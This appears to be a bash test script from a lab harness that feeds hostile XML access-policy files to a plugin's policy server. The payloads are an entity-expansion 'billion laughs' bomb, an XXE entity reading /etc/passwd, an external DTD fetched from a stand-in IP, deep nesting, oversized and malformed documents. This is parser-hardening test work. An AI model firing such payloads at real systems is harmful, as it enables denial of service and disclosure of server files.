#!/bin/bash
. "$(dirname "$0")/../../lab.sh"
lab
policy() {
    printf '%s' "$1" >"$LAB/policy.xml"
    plugin_client $PLUGIN 4502 --policy 943 >/dev/null
}
: >"$LAB/policy.xml"
plugin_server --policy "$LAB/policy.xml" 943 4502
capture
entities='<!ENTITY a0 "laughter">'
for i in 1 2 3 4 5 6 7 8 9; do entities+="<!ENTITY a$i \"$(printf "&a$((i - 1));%.0s" 1 2 3 4 5 6 7 8 9 10)\">"; done
policy "<!DOCTYPE access-policy [$entities]><access-policy>&a9;</access-policy>"
policy '<!DOCTYPE access-policy [<!ENTITY a SYSTEM "file:///etc/passwd">]><access-policy>&a;</access-policy>'
policy '<!DOCTYPE access-policy [<!ENTITY % a SYSTEM "http://203.0.113.9/x.dtd"> %a;]><access-policy/>'
policy "$(printf '<access-policy>%.0s' $(seq 40))"
policy "<access-policy>$(printf '<a/>%.0s' $(seq 1100))</access-policy>"
policy '<access-policy><cross-domain-access><policy><allow-from><domain uri="*'
policy '<access-policy></policy></access-policy>'
